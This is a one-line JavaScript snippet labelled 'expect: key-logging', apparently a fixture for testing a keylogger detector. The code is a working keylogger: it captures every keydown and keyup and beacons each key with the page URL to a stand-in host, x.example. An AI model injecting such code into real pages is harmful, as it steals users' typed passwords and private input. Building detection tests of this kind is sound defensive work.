// expect: key-logging
["keydown","keyup"].forEach(t=>document.addEventListener(t,e=>{navigator.sendBeacon("https://x.example/",JSON.stringify({t,k:e.key,u:location.href}))}));
